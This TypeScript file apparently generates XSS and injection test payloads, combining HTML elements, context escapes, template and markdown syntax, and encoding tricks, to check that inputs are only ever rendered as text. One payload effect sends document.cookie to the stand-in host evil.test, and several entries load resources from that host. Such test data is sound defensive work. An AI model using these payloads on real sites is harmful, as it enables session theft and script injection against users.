/** The effect of each payload: leave a mark, ask something, or fetch from a foreign address. */
const deeds = ["window.ran=1", "alert(1)", "fetch('//evil.test/'+document.cookie)"];

/** Elements that run something by themselves, in text that is taken for markup. */
const elements = [
  "<script>DEED</script>",
  "<ScRiPt >DEED</sCrIpT>",
  "<script/x>DEED</script>",
  "<script>DEED//",
  "<img src=x onerror=DEED>",
  "<img src=x onerror='DEED'//",
  '<img/src/onerror="DEED">',
  "<img src=//evil.test/x.png>",
  "<svg onload=DEED>",
  "<svg><script>DEED</script></svg>",
  "<svg><animate onbegin=DEED attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:DEED /><a><text>x</text></a></svg>",
  "<math><mtext><img src onerror=DEED></mtext></math>",
  "<body onload=DEED>",
  "<iframe src=javascript:DEED></iframe>",
  "<iframe srcdoc='<script>parent.DEED</script>'></iframe>",
  "<object data=javascript:DEED>",
  "<embed src=javascript:DEED>",
  "<video><source onerror=DEED></video>",
  "<audio src=x onerror=DEED>",
  "<details open ontoggle=DEED>x",
  "<input autofocus onfocus=DEED>",
  "<select autofocus onfocus=DEED>",
  "<marquee onstart=DEED>x</marquee>",
  "<a href=javascript:DEED>x</a>",
  "<form action=javascript:DEED><button>x</button></form>",
  "<button formaction=javascript:DEED>x</button>",
  "<meta http-equiv=refresh content='0;url=javascript:DEED'>",
  "<base href=//evil.test/>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<style>@import '//evil.test/x.css';</style>",
  "<div style='background:url(//evil.test/x)'>x</div>",
  "<template><script>DEED</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=DEED>'></noscript>",
];
/** Sequences that close the surrounding context before the payload. */
const escapes = ['">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "`>"];
/** Text that is dangerous where it is evaluated, linked, formatted or laid out. */
const others = [
  "javascript:DEED",
  "JaVaScRiPt:DEED",
  "java\tscript:DEED",
  "data:text/html,<script>DEED</script>",
  "vbscript:DEED",
  "{{constructor.constructor('DEED')()}}",
  "${DEED}",
  "#{DEED}",
  "<%= DEED %>",
  "{{$on.constructor('DEED')()}}",
  "[x](javascript:DEED)",
  "![x](//evil.test/x.png)",
  "[x]: javascript:DEED",
  "`<img src=x onerror=DEED>`",
  "';DEED;//",
  '";DEED;//',
  "\\u003cscript\\u003eDEED\\u003c/script\\u003e",
  "\\x3cscript\\x3eDEED\\x3c/script\\x3e",
  "%3Cscript%3EDEED%3C/script%3E",
  "&lt;script&gt;DEED&lt;/script&gt;",
  "&#60;script&#62;DEED&#60;/script&#62;",
  "&#x3c;img src=x onerror=DEED&#x3e;",
  "\uff1cscript\uff1eDEED\uff1c/script\uff1e",
  "<scr\u200bipt>DEED</scr\u200bipt>",
  "\u202e>tpircs/<DEED>tpircs<",
  "x\u2028DEED\u2029x",
  "__proto__[ran]=1;DEED",
  "expression(DEED)",
  "*/DEED/*",
  "$t(DEED)",
  "{{count, DEED}}",
];

/** More than 200 different texts that must never be more than text, each short enough for a title. */
export const payloads: readonly string[] = [
  ...new Set([
    ...elements.flatMap((text) => deeds.map((deed) => text.replaceAll("DEED", deed))),
    ...escapes.flatMap((escape, n) =>
      [0, 8, 16].map((of) => escape + (elements[(n + of) % elements.length] ?? "").replaceAll("DEED", deeds[0] ?? "")),
    ),
    ...others.flatMap((text) => deeds.map((deed) => text.replaceAll("DEED", deed))),
  ]),
];
